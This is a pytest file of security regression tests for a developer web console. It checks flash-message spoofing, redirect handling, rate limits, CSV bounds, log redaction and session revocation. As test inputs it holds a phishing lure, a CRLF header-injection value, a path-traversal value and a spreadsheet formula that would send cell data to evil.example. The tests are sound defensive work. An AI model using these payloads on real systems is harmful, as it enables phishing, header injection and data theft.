"""The console attacked as a hostile developer or web page would: what an earlier
review found open (each test failed before its fix)."""

from __future__ import annotations

import asyncio
import csv
import io
import logging
import re
from collections.abc import Callable
from pathlib import Path

import pytest

from hstgw.abuse import LocalBuckets
from tests.clocks import ManualClock
from tests.conftest import Dev, Gateway, start_gateway
from tests.console.conftest import Browser, make_app, operator, post_usage, this_month_ms
from tests.events.event_gateway_rig import append, crowd


def _flash(html: str) -> str:
    found = re.search(r'class="flash" role="status">([^<]*)<', html)
    return found.group(1) if found else ""


def test_a_link_cannot_put_its_own_words_in_the_consoles_notes(
    console_gw: Gateway, browser_for: Callable[[Dev], Browser]
) -> None:
    """A crafted link shows no text of its author's (``?msg=sent&result=...``) on the
    console's own page; a note that the console itself redirected to still shows."""
    b = browser_for(console_gw.new_dev())
    lure = "Your account is suspended: re-enter your dev_secret at evil.example"
    for msg in ("sent", "kicked"):
        page = b.get("/console/overview", params={"msg": msg, "result": lure}).text
        assert _flash(page) == ""
        sig = {"sig": "0" * 32}
        page = b.get("/console/overview", params={"msg": msg, "result": lure, **sig}).text
        assert _flash(page) == ""
    with Browser(console_gw) as stranger:  # no session: nothing is signed
        page = stranger.get("/console/signin", params={"msg": "sent", "result": lure, "sig": ""})
        assert _flash(page.text) == ""
    app_id = make_app(b, "flashapp")
    r = b.post(
        "/console/online/kick", {"app_id": app_id, "user_id": "nobody"}, csrf_from="/console/online"
    )
    assert r.status_code == 303
    assert _flash(b.get(r.headers["location"]).text) == "Kicked 0 terminal(s)."
    data = {"app_id": app_id, "user_id": "u1", "mutex_type": "m", "trans_mess": '{"a": 1}'}
    r = b.post("/console/online/trans-cmd", data, csrf_from="/console/online")
    assert r.status_code == 303
    assert _flash(b.get(r.headers["location"]).text) == "Result per terminal: u1/: 2"
    # the note of one session's redirect means nothing in another's
    other = browser_for(console_gw.new_dev())
    assert "Result per terminal" not in other.get(r.headers["location"]).text


def test_the_language_switch_goes_back_only_to_a_plain_console_path(
    console_gw: Gateway, browser_for: Callable[[Dev], Browser]
) -> None:
    """A ``back`` the Location header cannot carry (a control character, a character
    outside Latin-1: a 404 page's own path) was a 500 or a dropped connection."""
    b = browser_for(console_gw.new_dev())
    for back in (
        "/console/中",
        "/console\r\nSet-Cookie: evil=1",
        "/console/\t/evil.example",
        "/console/../../v1/apps",
    ):
        r = b.post("/console/lang", {"lang": "zh", "back": back})
        assert r.status_code == 303, (back, r.status_code)
        assert r.headers["location"] == "/console/signin", back
    r = b.post("/console/lang", {"lang": "en", "back": "/console/online?app_id=ab&user=x%20y"})
    assert r.headers["location"] == "/console/online?app_id=ab&user=x%20y"
    # the switch on a 404 page of a path outside ASCII
    page = b.get("/console/中")
    assert page.status_code == 404
    back = re.search(r'name="back" value="([^"]*)"', page.text)
    assert back is not None
    r = b.post("/console/lang", {"lang": "en", "back": back.group(1)})
    assert r.status_code == 303


def test_a_date_out_of_range_is_a_400_not_a_500(
    console_gw: Gateway, browser_for: Callable[[Dev], Browser]
) -> None:
    b = browser_for(console_gw.new_dev())
    for query in ({"end": "9999-12-31"}, {"start": "9999-12-31", "end": "9999-12-31"}):
        for path in ("/console/billing", "/console/billing.csv"):
            r = b.get(path, params=query)
            assert r.status_code == 400, (path, query, r.text[:300])
            assert "internal error" not in r.text


def _post_records(gw: Gateway, app_id: str, count: int) -> None:
    key = gw.new_node()
    now = this_month_ms(gw, 600_000)
    events = [
        {
            "event_id": f"cost{i}-{app_id}",
            "app_id": app_id,
            "charge_term": 1,
            "start_time": now,
            "end_time": now + 60_000,
        }
        for i in range(count)
    ]
    reply = gw.call(
        "POST",
        "/internal/v1/usage",
        json={"events": events},
        headers={"Authorization": f"Bearer {key}"},
    )
    assert reply.get("result", {}).get("accepted") == count, reply


def _allowed(b: Browser, path: str, tries: int) -> int:
    """How many of ``tries`` GETs of ``path`` were answered before the first 429."""
    for n in range(tries):
        if b.get(path).status_code == 429:
            return n
    return tries


def test_pages_that_do_many_calls_work_cost_as_many_calls(tmp_path: Path) -> None:
    """The CSV reads every page of records and the overview three figures of every app:
    one page view was one call of the developer's rate, whatever it read (the API
    charges each page of records); a developer could make the process do hundreds of
    times the work its rate allows."""
    for gw in start_gateway(tmp_path, limit_calls_per_developer=10):  # a burst of 20
        dev = gw.new_dev()
        b = Browser(gw)
        assert b.sign_in(dev).status_code == 303
        apps = [make_app(b, f"cost{i}") for i in range(4)]
        _post_records(gw, apps[0], 250)  # 3 pages of the API's largest
        gw.app.state["gateway"].guard.buckets = LocalBuckets(ManualClock())
        assert _allowed(b, "/console/billing.csv", 20) == 6  # 20 // 3
        gw.app.state["gateway"].guard.buckets = LocalBuckets(ManualClock())
        assert _allowed(b, "/console/overview", 20) == 4  # 20 // (1 + 4)
        gw.app.state["gateway"].guard.buckets = LocalBuckets(ManualClock())
        csv_text = b.get("/console/billing.csv").text
        assert len(csv_text.strip().splitlines()) == 251
        b.close()


def test_the_csv_is_read_at_once_and_bounded(
    console_gw: Gateway, browser_for: Callable[[Dev], Browser], monkeypatch: pytest.MonkeyPatch
) -> None:
    """Page after page, each counting the range and skipping all before it, a CSV of
    100,000 records was a minute of the process's work and ~100 MB, and there was no
    bound: the records are read in one query, and past a bound it is a 400."""
    from hstgw.console.views import billing

    b = browser_for(console_gw.new_dev())
    app_id = make_app(b, "csvcap")
    _post_records(console_gw, app_id, 130)
    lines = b.get("/console/billing.csv").text.strip().splitlines()
    assert len(lines) == 131 and len(set(lines)) == 131
    monkeypatch.setattr(billing, "_CSV_MOST", 120)
    r = b.get("/console/billing.csv")
    assert r.status_code == 400
    assert "end_time: 130 records: at most 120 at once; narrow the range" in r.text
    assert b.get("/console/billing.csv", params={"app_id": "0" * 32}).status_code == 200


def test_a_label_a_spreadsheet_would_run_is_text_in_the_csv(
    console_gw: Gateway, browser_for: Callable[[Dev], Browser]
) -> None:
    """A record's labels are whatever its node reported (a terminal's group, perhaps):
    written as they came, "=HYPERLINK(...)" ran as a formula where the CSV was opened."""
    b = browser_for(console_gw.new_dev())
    app_id = make_app(b, "csvformula")
    now = this_month_ms(console_gw, 600_000)
    labels = {
        "group_id": '=HYPERLINK("http://evil.example/?"&A1,"open")',
        "user_id": "@SUM(1+1)",
        "stream_id": "+1",
        "client_id": "-2",
    }
    event = {"event_id": f"f-{app_id}", "app_id": app_id, "charge_term": 1,
             "start_time": now, "end_time": now + 60_000, **labels}  # fmt: skip
    post_usage(console_gw, [event])
    [row] = csv.DictReader(io.StringIO(b.get("/console/billing.csv").text))
    for field, value in labels.items():
        assert row[field] == "'" + value
    assert row["amount"] == "0.006000" and row["app_name"] == "csvformula"


def test_sign_ins_fall_under_the_apis_access_token_limit(tmp_path: Path) -> None:
    """A successful sign-in is what an access_token request is (the developer's
    secret for a credential); it was unlimited, and with a sign-out each, a loop
    filled the process's list of ended sessions."""
    for gw in start_gateway(tmp_path, limit_tokens_per_developer=3):
        gw.app.state["gateway"].guard.buckets = LocalBuckets(ManualClock())
        dev = gw.new_dev()
        codes = []
        for _ in range(5):
            with Browser(gw) as b:
                codes.append(b.sign_in(dev).status_code)
        assert codes == [303, 303, 303, 429, 429]
        with Browser(gw) as b:
            r = b.sign_in(dev)
            assert "Too many sign-ins" in r.text and "hstgw_console=" not in r.headers.get(
                "set-cookie", ""
            )


def test_a_secret_typed_into_the_dev_id_field_is_not_logged(
    tmp_path: Path, caplog: pytest.LogCaptureFixture
) -> None:
    """Fields swapped (or the secret pasted twice) made the refusal's log line carry
    the secret as the dev_id it was taken for."""
    caplog.set_level(logging.INFO)
    for gw in start_gateway(tmp_path):
        dev = gw.new_dev()
        with Browser(gw) as b:
            swapped = {"dev_id": dev.dev_secret, "dev_secret": dev.dev_id}
            r = b.post("/console/signin", swapped, csrf_from="/console/signin")
            assert r.status_code == 401
        # the API's access_token, the secret in the dev_id's place
        reply = gw.http.get(
            f"{gw.url}/access/token", headers={"Authorization": f"{dev.dev_secret}.001AAAA"}
        )
        assert reply.json()["code"] == 606000000
    refusals = [r for r in caplog.records if r.getMessage() == "access_token refused"]
    assert len(refusals) == 2
    for record in refusals:  # the fields a log line is written with, extras included
        assert dev.dev_secret not in repr(vars(record))


def test_a_session_ended_by_disabling_stays_ended_after_re_enabling(
    console_gw: Gateway, browser_for: Callable[[Dev], Browser]
) -> None:
    """The API revokes the access_token on disable for good; a console cookie copied
    before the disable worked again once the operator re-enabled the developer."""
    dev = console_gw.new_dev()
    b = browser_for(dev)
    copied = b.http.cookies["hstgw_console"]
    operator(console_gw, lambda devs: devs.set_active(dev.dev_id, False))
    assert b.get("/console/overview").status_code == 303
    operator(console_gw, lambda devs: devs.set_active(dev.dev_id, True))
    with Browser(console_gw) as thief:
        thief.http.cookies.set("hstgw_console", copied, path="/console")
        assert thief.get("/console/overview").status_code == 303


def test_the_live_groups_cost_what_they_read(tmp_path: Path) -> None:
    """The live view reads an app's groups whole (htmx polls it every 2 s): a large app's
    costs calls by its size, as an event gateway sync's does, whatever the path."""
    for gw in start_gateway(tmp_path, limit_calls_per_developer=10):  # bursts of 20
        gw.app.state["gateway"].guard.buckets = LocalBuckets(ManualClock())  # (no refill)
        dev = gw.new_dev()
        with Browser(gw) as b:
            assert b.sign_in(dev).status_code == 303
            app_id = make_app(b, "crowded")
            # 100 groups of 10 users: a page and 11 calls more, once its size is known
            asyncio.run(append(gw, app_id, *crowd(100, 10)))
            live = [b.get("/console/events/live", params={"app_id": app_id}) for _ in range(3)]
        assert live[0].status_code == 200 and "g099" in live[0].text
        assert 429 in [r.status_code for r in live[1:]]  # (a page each, dozens would pass)
